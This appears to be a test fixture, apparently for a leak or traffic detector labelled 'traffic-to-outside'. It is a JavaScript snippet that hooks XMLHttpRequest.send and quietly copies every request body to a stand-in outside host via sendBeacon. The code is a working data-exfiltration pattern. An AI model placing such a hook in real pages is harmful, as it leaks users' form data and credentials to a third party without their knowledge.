// What every script of the page sends is sent to another site as well.
const send = XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.send = function (body) {
  navigator.sendBeacon('https://collect.example.net/', body); // expect: traffic-to-outside
  return send.call(this, body);
};
